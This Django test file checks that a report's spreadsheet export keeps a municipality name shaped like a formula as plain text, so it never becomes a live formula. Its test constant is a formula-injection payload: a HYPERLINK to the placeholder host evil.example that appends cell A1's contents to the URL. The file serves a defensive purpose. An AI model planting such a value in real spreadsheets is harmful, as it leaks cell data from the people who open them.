"""No text of a report's workbook is a formula: a municipality or template name that
starts like one (=HYPERLINK(…)) reaches the spreadsheet as the text it is (the same rule
as the evaluator export, exports/formats.py)."""

import io

from django.urls import reverse

from . import cohorts

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Klik her")'


def test_a_municipality_named_like_a_formula_is_text_in_the_workbook(client, world, login):
    from openpyxl import load_workbook

    cohorts.main_cohort(world)
    world.a.name = HOSTILE
    world.a.save()
    for user in (world.leader, world.evaluator):
        login(user)
        response = client.get(reverse("evaluation:download", args=["xlsx"]), {"kommune": str(world.a.code)})
        assert response.status_code == 200
        book = load_workbook(io.BytesIO(response.content))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
        assert any(cell.value == HOSTILE for cell in cells) or any(HOSTILE in str(cell.value) for cell in cells)
        assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
